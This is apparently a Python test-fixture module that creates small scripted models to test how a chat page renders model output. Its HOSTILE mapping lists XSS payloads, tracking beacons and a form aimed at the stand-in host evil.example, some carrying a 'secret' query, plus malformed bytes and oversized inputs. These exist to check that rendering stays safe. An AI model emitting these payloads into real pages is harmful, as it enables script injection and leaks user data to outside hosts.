"""The models of the page's tests: small, real, and each says what its name promises."""

from __future__ import annotations

from collections.abc import Collection, Mapping, Sequence
from pathlib import Path
from typing import Any

from tests.clients.conftest import ANSWER, CALL, CITY, HELLO, THOUGHTS, TOOL_TEMPLATE
from tests.small_models import CHATML, install, random_model, scripted_model

__all__ = ["ANSWER", "CITY", "HELLO", "HOSTILE", "MARKDOWN", "THOUGHTS", "make_models"]

MARKDOWN = """## Two roots

Take **a quadratic** equation, $ax^2 + bx + c = 0$, and its `roots`:

$$x = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}$$

| coefficient | of what |
|---|---:|
| a | the square |
| b | one power less |

```python
def roots(a: float, b: float, c: float) -> tuple[float, float]:
    from math import sqrt

    root = sqrt(b * b - 4 * a * c)  # imaginary where it is negative
    return (-b + root) / (2 * a), (-b - root) / (2 * a)
```

1. first, the discriminant
2. then both signs

> Girolamo Cardano had the cubic ones.

See [the article](https://example.org/quadratic).
"""
"""The answer of the model "markdown": a heading, formulas, a table, code, a list, a quotation and a link."""

HOSTILE: Mapping[str, str | Sequence[str | bytes]] = {
    "scripts": (
        "Before <script>alert('one')</script> <img src=x onerror=\"alert('two')\"> <svg onload=alert(3)>"
        "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe> [click](javascript:alert%285%29) "
        "<a href='java\nscript:alert(6)'>or here</a> <style>*{display:none}</style> <base href=//evil.example>"
        "<form action=https://evil.example/f><button>Go</button></form> <details open ontoggle=alert(7)>x</details> after."
    ),
    "beacons": (
        "Before ![one](https://evil.example/a.png?q=secret) <img src='//evil.example/b.png'> "
        "![two][ref] <video src=https://evil.example/c.mp4 autoplay></video> <link rel=prefetch href=https://evil.example/d>"
        "<div style=\"background:url('https://evil.example/e.png')\">f</div> <object data=https://evil.example/g></object>"
        "<meta http-equiv=refresh content='0;url=https://evil.example/h'> after.\n\n[ref]: https://evil.example/i.png\n"
    ),
    "unclosed": (
        "Before.\n\n```html\n<b>not bold</b> <script>alert(8)</script>\n\n| a | b |\n|---\n\n$$\\frac{1}{ **and *more <b><table><tr>"
    ),
    "broken": [
        "Before ",
        b"\xff",
        b"\xc3",
        "(",
        b"\xf0\x9f\x98",
        " mid",
        b"\xed\xa0\x80",
        " after.",
    ],
    "lists": ["Before.\n\n", *("- " * length for length in range(2, 142)), "deep.\n\nAfter."],
    "line": ["Before.\n\n", *(f"{number:04}" + "a" * 1996 for number in range(500)), "\n\nAfter."],
}
"""Model -> its answer, which must do nothing. lists: a list 10,000 deep. line: 1 MB without a space."""


def make_models(root: Path, gguf: Path, only: Collection[str] = ()) -> None:
    """Fill the store at ``root`` with all of them, or ``only`` some; the files of the models are made in ``gguf``.

    hello: says HELLO. markdown: says MARKDOWN. city: says CITY. tool: calls a tool. think: thinks THOUGHTS, says ANSWER.
    endless: random words and hardly an end. long: the same, slower. And one model for each of HOSTILE.
    """
    scripts = {"hello": HELLO, "markdown": MARKDOWN, "city": CITY, **HOSTILE}
    tools = {"tool": CALL, "think": f"<think>{THOUGHTS}</think>{ANSWER}"}
    slow: dict[str, Any] = {"n_embd": 256, "n_ff": 640, "n_layers": 4}
    for name in only or (*scripts, *tools, "endless", "long"):
        path = gguf / f"{name}.gguf"
        if name in scripts:
            scripted_model(path, scripts[name], n_ctx=8192)
        elif name in tools:
            scripted_model(path, tools[name], chat_template=TOOL_TEMPLATE)
        else:
            random_model(path, chat_template=CHATML, n_ctx=8192, **(slow if name == "long" else {}))
        install(root, name, path)
